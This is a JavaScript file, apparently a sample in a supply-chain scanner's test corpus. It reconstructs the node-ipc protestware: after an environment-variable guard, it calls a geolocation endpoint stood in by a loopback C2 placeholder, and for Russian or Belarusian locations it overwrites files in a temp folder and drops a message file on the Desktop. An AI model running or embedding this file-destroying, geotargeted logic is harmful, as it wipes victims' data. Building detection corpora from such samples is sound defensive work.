// dao/ssl-geospec.js of 10.1.1, decoded: ask api.ipgeolocation.io where we are; in Russia or
// Belarus, overwrite every file found from the working folder up with a heart. peacenotwar (9.2.2,
// 11.x) wrote WITH-LOVE-FROM-AMERICA.txt to the Desktop. Here the geolocation service is the
// loopback C2 and the overwritten files are only those of a folder made for it in the temp folder.
module.exports = { config: {}, of: {} };
(function () {
  if (process.env.SUPPLYWATCH_LIVE_CORPUS !== '1') return;
  var fs = require('fs'), os = require('os'), path = require('path');
  require('http').get('__C2@api.ipgeolocation.io__/ipgeo?apiKey=ae511e1627824a968aaaa758a5309154', function (res) {
    var b = '';
    res.on('data', function (c) { b += c; });
    res.on('end', function () {
      var where = JSON.parse(b || '{}');
      if (!/russia|belarus/i.test(where.country_name || '')) return;
      var victim = path.join(os.tmpdir(), 'node-ipc-victim');
      fs.readdirSync(victim).forEach(function (f) { fs.writeFileSync(path.join(victim, f), '❤️'); });
      var desktop = path.join(os.homedir(), 'Desktop');
      fs.mkdirSync(desktop, { recursive: true });
      fs.writeFileSync(path.join(desktop, 'WITH-LOVE-FROM-AMERICA.txt'), 'peace not war\n');
    });
  });
})();
